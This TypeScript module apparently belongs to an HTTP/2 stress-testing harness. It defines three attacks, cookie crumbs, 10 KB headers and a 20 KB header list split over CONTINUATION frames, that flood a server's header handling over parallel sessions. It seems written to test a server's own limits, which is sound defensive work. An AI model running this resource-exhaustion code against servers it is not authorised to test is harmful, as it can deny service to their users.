import { type Attack, inParallel } from "../attack.ts";
import { encodeFields, type Field, FLAG, FRAME, frame, headers } from "../frames.ts";
import { keepSession } from "../raw-session.ts";
import { requestOf } from "../requests.ts";

const CONNECTIONS = 2;
const AT_ONCE = 10;
/** Below the server's limit of streams, so that no request is refused for that. */
const IN_FLIGHT = 200;

/** Streams that carry more header fields than honest ones do. */
function withFields(more: readonly Field[], inFlight: number): Attack {
  return (context) => {
    const block = encodeFields([...requestOf("healthz").fields, ...more]);
    return inParallel(CONNECTIONS, () =>
      keepSession(context, {}, async (session) => {
        while (session.isOpen() && context.isGoing()) {
          const ids = Array.from({ length: AT_ONCE }, () => session.nextId());
          await session.write(...ids.flatMap((id) => inFrames(id, block)));
          context.count("requests", AT_ONCE);
          await session.waitForRoom(ids, inFlight);
        }
      }),
    );
  };
}

/** RFC 9113, section 8.2.3: a cookie may come in one field per crumb. */
export const cookieCrumbs: Attack = withFields(
  Array.from({ length: 300 }, (_, index) => ["cookie", `c${index}=1`]),
  Number.POSITIVE_INFINITY,
);

/** 10 KB of headers in each stream. */
export const largeHeaders: Attack = withFields([["x-large", "a".repeat(10_000)]], IN_FLIGHT);

/** A list of 20 KB in small fields, over the 16 KB that the server allows. */
export const longHeaderList: Attack = withFields(
  Array.from({ length: 100 }, (_, index) => [`x-field-${index}`, "a".repeat(190)]),
  IN_FLIGHT,
);

/** A frame holds 16 KB; what is more goes into a CONTINUATION frame. */
function inFrames(id: number, block: Buffer): Buffer[] {
  if (block.length <= 16_384) return [headers(id, block, { endStream: true })];
  return [
    frame(FRAME.headers, FLAG.endStream, id, block.subarray(0, 16_000)),
    frame(FRAME.continuation, FLAG.endHeaders, id, block.subarray(16_000)),
  ];
}
